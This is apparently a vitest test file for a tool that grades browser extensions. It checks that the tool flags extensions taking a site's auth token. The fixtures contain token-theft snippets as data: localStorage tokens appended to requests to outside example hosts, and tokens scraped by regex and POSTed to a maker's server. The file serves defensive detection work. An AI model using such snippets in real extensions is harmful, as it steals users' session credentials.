import { expect, test } from 'vitest';
import { analyze } from '../../analyze.ts';
import { memoryTree } from '../../sources/memory.ts';
import { graded } from '../../testing/graded.ts';

/** A site's token that goes back to the site, by a helper that is given the address. */

const gradeOf = async (address: string): Promise<string> => {
  const files = {
    'manifest.json': JSON.stringify({
      manifest_version: 3,
      name: 'Notes',
      version: '1',
      content_scripts: [{ matches: ['https://app.site.example/*'], js: ['c.ts'] }],
    }),
    'client.ts':
      "export const send = (url: string, options?: RequestInit) => { const headers = new Headers(); headers.set('authorization', localStorage.getItem('token') || ''); return fetch(url, { ...options, headers }); };\n",
    'c.ts': `import { send } from './client';\nsend('${address}', { method: 'GET' }).then(show);\n`,
  };
  return (await analyze(memoryTree(files), { kind: 'extension' })).score.grade;
};

test.each([
  ['https://api.site.example/me', ['A+', 'A']],
  ['https://collect.other.example/me', ['F']],
])('%s', async (address, grades) => {
  expect(grades).toContain(await gradeOf(address));
});

/** A token that the extension keeps in a page's storage, and one of the page's that it also puts there. */
test.each([
  ['of its own', 'chrome.runtime.onMessage.addListener((m) => localStorage.setItem("token", m.token));', true],
  ['of the page', 'chrome.runtime.onMessage.addListener((m) => localStorage.setItem("theme", m.theme));', false],
  [
    'that a server sent',
    'fetch("https://collect.other.example/next").then((r) => r.text()).then((t) => localStorage.setItem("token", t));',
    false,
  ],
])('a token %s', async (_, keeps, isOwn) => {
  const manifest = {
    manifest_version: 3,
    name: 'Notes',
    version: '1',
    content_scripts: [{ matches: ['https://app.site.example/*'], js: ['c.js'] }],
  };
  const send =
    'fetch("https://api.other.example/me?t=" + localStorage.getItem("token")).then((r) => r.json()).then(show);';
  const files = { 'manifest.json': JSON.stringify(manifest), 'c.js': `${keeps}\n${send}` };
  const { findings } = await analyze(memoryTree(files), { kind: 'extension' });
  const heavy = findings.filter(
    ({ rule, severity }) => rule === 'token-taken-from-page' && (severity === 'critical' || severity === 'high'),
  );
  expect(heavy.length === 0).toBe(isOwn);
});

/** A token that is looked for in what a site answers, of which the manifest names site and maker alike. */
const ASKED = 'const t = await (await fetch("SITE", { credentials: "include" })).text(); const m = EXPRESSION.exec(t);';
const SENT = 'await fetch("https://hub.maker.example/t", { method: "POST", body: m[1] });';
test.each([
  ['in markup', 'https://app.site.example/me', '/accessToken="([^"]+)"/', true],
  ['in JSON', 'https://app.site.example/me', '/"access_token":"(.*?)"/', true],
  ['in JSON with spaces', 'https://app.site.example/me', '/"accessToken"\\s*:\\s*"([^"]+)/', true],
  ['that looks like the own one', 'https://hub.maker.example.site.example/me', '/"accessToken":"([^"]+)"/', true],
  ['of the own server, which gets it back', 'https://app.maker.example/me', '/"accessToken":"([^"]+)"/', false],
])('a token %s', async (_, site, expression, isTaken) => {
  const background = `chrome.alarms.onAlarm.addListener(async () => { ${ASKED.replace('SITE', site).replace('EXPRESSION', () => expression)} ${SENT} });`;
  const manifest = { host_permissions: ['https://*.site.example/*', 'https://hub.maker.example/*'] };
  expect((await graded({ background, manifest })) === 'D').toBe(isTaken);
});
